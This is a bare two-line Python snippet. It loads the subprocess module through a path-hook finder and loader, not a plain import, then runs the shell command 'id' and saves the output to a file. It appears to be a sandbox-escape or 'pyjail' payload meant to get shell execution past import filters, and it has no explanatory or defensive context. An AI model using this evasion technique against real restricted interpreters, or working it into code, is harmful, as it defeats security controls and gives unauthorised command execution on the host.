import sys, os
sys.path_hooks[-1](os.path.dirname(os.__file__)).find_spec("subprocess").loader.load_module("subprocess").getoutput("id>pf")
